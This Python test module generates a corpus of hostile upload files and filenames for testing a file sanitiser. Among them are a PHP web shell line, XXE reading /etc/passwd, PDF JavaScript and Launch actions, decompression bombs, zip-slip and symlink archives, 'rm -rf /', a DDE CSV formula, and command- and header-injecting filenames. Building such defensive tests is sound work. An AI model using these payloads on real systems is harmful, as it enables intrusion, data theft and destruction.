"""A corpus of files that mean harm, made here byte by byte; no malware, nothing downloaded.

`python -m tests.documents.hostile FOLDER` writes it to a folder.
"""

import io
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

from PIL import Image
from PIL.PngImagePlugin import PngInfo

SCRIPT = b"<script>alert(document.cookie)</script>"
PAYLOAD = b"EVIL-PAYLOAD-7f3a"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + b"$H+H*"
XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'

REFUSED, NEUTRAL, ACTIVE, LARGE = "refused", "neutralised", "active-content", "too-large"
Case = tuple[str, bytes, str]  # name, content, and what must happen: refused (perhaps by which cause) or kept


def picture(fmt: str = "JPEG", size: tuple[int, int] = (40, 30), mode: str = "RGB", **options: object) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, "teal" if mode in ("RGB", "RGBA", "CMYK") else 120).save(out, fmt, **options)
    return out.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_of(width: int, height: int, rows: bytes = b"") -> bytes:
    """A PNG that claims a size, whatever its data holds."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def pdf(catalog: bytes = b"", *more: bytes, page: bytes = b"", version: bytes = b"1.7", trailer: bytes = b"") -> bytes:
    """A whole one-page PDF with a right index; `catalog`, `page`, `trailer` and `more` objects are added to it."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + b" >>",
        *more,
    ]
    out, places = b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        start,
    )


def stream(content: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), dictionary, content)


def packed(body: bytes, *, filters: bytes = b"/FlateDecode", encode: int = 1, padding: int = 0) -> bytes:
    """An object stream that hides `body`."""
    content = b"9 0 " + body
    for _ in range(encode):
        content = zlib.compress(content)
    pad = b"/X (" + b"a" * padding + b") " if padding else b""
    return stream(content, b"/Type /ObjStm /N 1 /First 4 " + pad + b"/Filter " + filters)


def archive(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in members.items():
            file.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return out.getvalue()


def tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        link = tarfile.TarInfo("passwd")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        file.addfile(link)
    return out.getvalue()


def symlink_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        link = zipfile.ZipInfo("photo.jpg")
        link.external_attr = 0o120777 << 16
        file.writestr(link, "/etc/passwd")
    return out.getvalue()


def exif_with_place() -> bytes:
    exif = Image.Exif()
    exif[0x010E], exif[0x9286] = PAYLOAD.decode(), PAYLOAD.decode()
    exif.get_ifd(0x8825).update({1: "N", 2: (31.0, 44.0, 5.0), 3: "E", 4: (116.0, 30.0, 28.0)})
    return exif.tobytes()


def text_png(*, compressed: bool) -> bytes:
    info = PngInfo()
    info.add_text("Comment", SCRIPT.decode() + PAYLOAD.decode(), zip=compressed)
    return picture("PNG", pnginfo=info)


def animated(fmt: str) -> bytes:
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue", "green")]
    out = io.BytesIO()
    frames[0].save(out, fmt, save_all=True, append_images=frames[1:])
    return out.getvalue()


def webp_canvas(width: int, height: int) -> bytes:
    body = (
        b"WEBPVP8X"
        + struct.pack("<I", 10)
        + b"\0\0\0\0"
        + (width - 1).to_bytes(3, "little")
        + (height - 1).to_bytes(3, "little")
    )
    return b"RIFF" + struct.pack("<I", len(body)) + body


def jpeg_of(width: int, height: int) -> bytes:
    content = bytearray(picture("JPEG"))
    at = content.index(b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def pictures() -> Iterator[Case]:
    jpeg, png, webp = picture("JPEG"), picture("PNG"), picture("WEBP")
    yield "exif_gps.jpg", picture("JPEG", exif=exif_with_place()), NEUTRAL
    yield "exif.webp", picture("WEBP", exif=exif_with_place()), NEUTRAL
    yield "exif.png", picture("PNG", exif=exif_with_place()), NEUTRAL
    yield "comment.jpg", picture("JPEG", comment=SCRIPT + PAYLOAD), NEUTRAL
    yield "icc.jpg", picture("JPEG", icc_profile=PAYLOAD * 40), NEUTRAL
    yield "icc.png", picture("PNG", icc_profile=PAYLOAD * 40), NEUTRAL
    yield "text.png", text_png(compressed=False), NEUTRAL
    yield "ztext.png", text_png(compressed=True), NEUTRAL
    yield "jpg_and_html.jpg", jpeg + SCRIPT + PAYLOAD, NEUTRAL
    yield "jpg_and_php.php.jpg", jpeg + b"<?php system($_GET[0]); ?>" + PAYLOAD, NEUTRAL
    yield "jpg_and_zip.jpg", jpeg + archive(a_dot_txt=PAYLOAD), NEUTRAL
    yield "jpg_and_pdf.jpg", jpeg + pdf(b"/OpenAction << /S /JavaScript /JS (x) >>") + PAYLOAD, NEUTRAL
    yield "jpg_and_eicar.jpg", jpeg + EICAR + PAYLOAD, NEUTRAL
    yield "png_and_html.png", png + SCRIPT + PAYLOAD, NEUTRAL
    yield "png_and_jar.png", png + archive(META_INF__MANIFEST_dot_MF=PAYLOAD), NEUTRAL
    yield "png_private_chunk.png", png[:33] + chunk(b"evIl", PAYLOAD * 10) + png[33:], NEUTRAL
    yield "webp_and_html.webp", webp + SCRIPT + PAYLOAD, NEUTRAL
    yield "png_called.jpg", png, NEUTRAL
    yield "jpg_called.pdf", jpeg, NEUTRAL
    yield "jpg_called.html", jpeg, NEUTRAL
    yield "cmyk.jpg", picture("JPEG", mode="CMYK"), NEUTRAL
    yield "grey16.png", picture("PNG", mode="I;16"), NEUTRAL
    yield "animated.png", animated("PNG"), NEUTRAL
    yield "animated.webp", animated("WEBP"), NEUTRAL
    yield "65535x65535.png", png_of(65_535, 65_535), LARGE
    yield "2e9x1.png", png_of(2_000_000_000, 1), LARGE
    yield "9000x9000.png", png_of(9_000, 9_000), LARGE
    yield "0x0.png", png_of(0, 0), REFUSED
    yield "flat_bomb.png", png_of(4_001, 3_000, bytes(3_000 * (4_001 * 3 + 1))), LARGE
    yield "largest_allowed.png", png_of(4_000, 3_000, bytes(3_000 * (4_000 * 3 + 1))), NEUTRAL
    yield "65500x65500.jpg", jpeg_of(65_500, 65_500), LARGE
    yield "5000x5000_empty.jpg", jpeg_of(5_000, 5_000), LARGE
    yield "16383x16383.webp", webp_canvas(16_383, 16_383), LARGE
    yield (
        "ztext_bomb.png",
        png[:33] + chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(80_000_000), 9)) + png[33:],
        REFUSED,
    )
    yield (
        "icc_bomb.png",
        png[:33] + chunk(b"iCCP", b"icc\0\0" + zlib.compress(bytes(80_000_000), 9)) + png[33:],
        REFUSED,
    )
    yield "cut_short.jpg", picture("JPEG", (400, 300))[:900], REFUSED
    yield "cut_short.png", picture("PNG", (400, 300))[:120], REFUSED
    yield "only_magic.jpg", b"\xff\xd8\xff\xe0", REFUSED
    yield "only_magic.png", b"\x89PNG\r\n\x1a\n", REFUSED
    yield "only_magic.webp", b"RIFF\x00\x00\x00\x00WEBP", REFUSED
    yield "bad_crc.png", png[:20] + b"\xff" + png[21:], REFUSED
    yield "zeros_after_magic.png", b"\x89PNG\r\n\x1a\n" + bytes(5_000), REFUSED


def documents() -> Iterator[Case]:
    js = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
    yield "open_action.pdf", pdf(b"/OpenAction " + js), ACTIVE
    yield "names_javascript.pdf", pdf(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", js), ACTIVE
    yield "escaped_name.pdf", pdf(b"/OpenAction << /S /J#61v#61Script /JS (x) >>"), ACTIVE
    yield "page_action.pdf", pdf(page=b"/AA << /O " + js + b" >>"), ACTIVE
    yield "widget_action.pdf", pdf(b"", b"<< /Subtype /Widget /A " + js + b" >>", page=b"/Annots [4 0 R]"), ACTIVE
    yield "launch.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), ACTIVE
    yield "submit.pdf", pdf(b"/OpenAction << /S /SubmitForm /F (http://192.0.2.1/) >>"), ACTIVE
    yield "import.pdf", pdf(b"/OpenAction << /S /ImportData /F (\\\\\\\\192.0.2.1\\\\x) >>"), ACTIVE
    yield "goto_remote.pdf", pdf(b"/OpenAction << /S /GoToR /F (\\\\\\\\192.0.2.1\\\\x) /D [0 /Fit] >>"), ACTIVE
    yield "goto_embedded.pdf", pdf(b"/OpenAction << /S /GoToE /T << /R /C >> >>"), ACTIVE
    yield (
        "embedded_exe.pdf",
        pdf(b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>", stream(b"MZ" + PAYLOAD)),
        ACTIVE,
    )
    yield "attachment.pdf", pdf(b"", b"<< /Subtype /FileAttachment >>", page=b"/Annots [4 0 R]"), ACTIVE
    yield "rich_media.pdf", pdf(b"", b"<< /Subtype /RichMedia >>", page=b"/Annots [4 0 R]"), ACTIVE
    yield "movie.pdf", pdf(b"", b"<< /Subtype /Movie >>", page=b"/Annots [4 0 R]"), ACTIVE
    yield "rendition.pdf", pdf(b"/OpenAction << /S /Rendition /OP 0 >>"), ACTIVE
    yield "xfa.pdf", pdf(b"/AcroForm << /XFA 4 0 R >>", stream(XXE)), ACTIVE
    yield "packed_js.pdf", pdf(b"", packed(js)), ACTIVE
    yield "packed_js_far.pdf", pdf(b"", packed(js, padding=200_000)), ACTIVE
    yield "packed_js_escaped.pdf", pdf(b"", packed(b"<< /S /Java#53cript /JS (x) >>")), ACTIVE
    yield "packed_escaped_type.pdf", pdf(b"", packed(js).replace(b"/ObjStm", b"/O#62jStm")), ACTIVE
    yield "packed_bomb.pdf", pdf(b"", packed(b"<< /X (" + b" " * 60_000_000 + b") >>")), LARGE
    yield "encrypted.pdf", pdf(trailer=b"/Encrypt << /Filter /Standard /V 2 /R 3 /O (a) /U (b) /P -4 >>"), REFUSED
    yield "after_the_end.pdf", pdf() + SCRIPT + PAYLOAD, REFUSED
    yield "zip_after.pdf", pdf() + archive(a_dot_txt=PAYLOAD), REFUSED
    yield "zip_inside.pdf", pdf(b"", stream(archive(a_dot_txt=PAYLOAD))), REFUSED
    yield "html_before.pdf", SCRIPT + pdf(), REFUSED
    yield "zip_before.pdf", archive(a_dot_txt=PAYLOAD) + pdf(), REFUSED
    yield "text_before.pdf", b"hello\n" + pdf(), REFUSED
    yield "no_end.pdf", pdf().replace(b"%%EOF", b""), REFUSED
    yield "only_magic.pdf", b"%PDF-1.7\n%%EOF\n", REFUSED
    yield "garbage.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n", REFUSED
    yield "no_pages.pdf", pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0     "), REFUSED
    yield "page_loop.pdf", pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), REFUSED
    yield "deep_arrays.pdf", pdf(b"/X " + b"[" * 20_000 + b"]" * 20_000), REFUSED
    yield "many_pages.pdf", pdf().replace(b"[3 0 R]", b"[" + b"3 0 R " * 400 + b"]"), LARGE
    yield "count_lies.pdf", pdf().replace(b"/Count 1 ", b"/Count 99999999 "), NEUTRAL
    yield "plain.pdf", pdf(), NEUTRAL


def others() -> Iterator[Case]:
    relation = b'<Relationships><Relationship Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>'
    yield "html_called.jpg", b"<!doctype html>" + SCRIPT, REFUSED
    yield "html_with_mark.png", b"\xef\xbb\xbf  <html>" + SCRIPT, REFUSED
    yield "script.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>", REFUSED
    yield "svg_called.png", b"<?xml version='1.0'?><svg onload='alert(1)'/>", REFUSED
    yield "xxe.xml", XXE, REFUSED
    yield "laughs.xml", b"<!DOCTYPE a [<!ENTITY a 'ha'><!ENTITY b '&a;&a;'>]><a>&b;</a>", REFUSED
    yield "xxe.docx", archive(word__document_dot_xml=XXE), REFUSED
    yield "template.docx", archive(word___rels__settings_dot_xml_dot_rels=relation), REFUSED
    yield "macro.docm", archive(word__vbaProject_dot_bin=PAYLOAD), REFUSED
    yield "sheet.xlsx", archive(xl__workbook_dot_xml=b"<workbook/>"), REFUSED
    yield "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), REFUSED
    yield "bomb.zip", archive(a_dot_txt=bytes(50_000_000)), REFUSED
    yield "zip_in_zip.zip", archive(a_dot_zip=archive(b_dot_zip=archive(c_dot_txt=bytes(1_000_000)))), REFUSED
    yield "slip.zip", archive(**{"..__..__etc__passwd": PAYLOAD}), REFUSED
    yield "symlink.zip", symlink_zip(), REFUSED
    yield "symlink.tar", tar(), REFUSED
    yield "a.rar", b"Rar!\x1a\x07\x01\x00" + bytes(60), REFUSED
    yield "a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(60), REFUSED
    yield "a.gz", b"\x1f\x8b\x08" + bytes(60), REFUSED
    yield "program.exe", b"MZ" + bytes(200), REFUSED
    yield "program.elf", b"\x7fELF" + bytes(200), REFUSED
    yield "shell.jpg", b"#!/bin/sh\nrm -rf /\n", REFUSED
    yield "php.jpg", b"<?php system($_GET[0]); ?>", REFUSED
    yield "gif_with_script.gif", b"GIF89a/*" + SCRIPT + b"*/=1;", REFUSED
    yield "bitmap.jpg", b"BM" + bytes(60), REFUSED
    yield "tiff.jpg", b"II*\0" + bytes(60), REFUSED
    yield "photo.heic", b"\0\0\0\x18ftypheic" + bytes(60), REFUSED
    yield "movie.mp4", b"\0\0\0\x18ftypmp42" + bytes(60), REFUSED
    yield "postscript.jpg", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file", REFUSED
    yield "eicar.com", EICAR, REFUSED
    yield "link.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(60), REFUSED
    yield "formula.csv", b"=cmd|'/c calc'!A1,1\n", REFUSED
    yield "text.txt", "你好".encode(), REFUSED
    yield "empty.jpg", b"", REFUSED
    yield "one_byte.jpg", b"\xff", REFUSED
    yield "zeros.jpg", bytes(10_000), REFUSED
    yield "riff_wave.webp", b"RIFF\x24\0\0\0WAVEfmt ", REFUSED
    yield "flash.swf", b"CWS\x0a" + bytes(60), REFUSED
    yield "java.class", b"\xca\xfe\xba\xbe" + bytes(60), REFUSED


def corpus() -> list[Case]:
    """Every hostile file: name, content, and whether it must be refused or kept without its sting."""
    return [*pictures(), *documents(), *others()]


NAMES = [  # what a sender calls a good picture, and what it may be called afterwards
    ("photo.jpg", "photo.jpg"),
    ("../../etc/passwd", "passwd.jpg"),
    ("..\\..\\windows\\system32\\cmd.exe", "cmd.jpg"),
    ("/etc/passwd\x00.jpg", "passwd.jpg"),
    ("photo\u202egpj.exe", "photogpj.jpg"),
    ("a\r\nSet-Cookie: x=1.jpg", "aSet-Cookie_ x_1.jpg"),
    ("x" * 500 + ".jpg", "x" * 80 + ".jpg"),
    ("身份证正面.jpeg", "身份证正面.jpg"),
    ("<img src=x onerror=alert(1)>.png", "_img src_x onerror_alert(1)_.jpg"),
    ("shell.php.jpg", "shell.jpg"),
    (".htaccess", "htaccess.jpg"),
    (".jpg", "材料.jpg"),
    ("", "材料.jpg"),
    (" . . ", "材料.jpg"),
    ("CON\u200b.jpg", "CON.jpg"),
    ("$(reboot);`id`.jpg", "_(reboot)__id_.jpg"),
    ("照片 (1).webp", "照片 (1).jpg"),
]


if __name__ == "__main__":
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for name, content, _ in corpus():
        (folder / name).write_bytes(content)
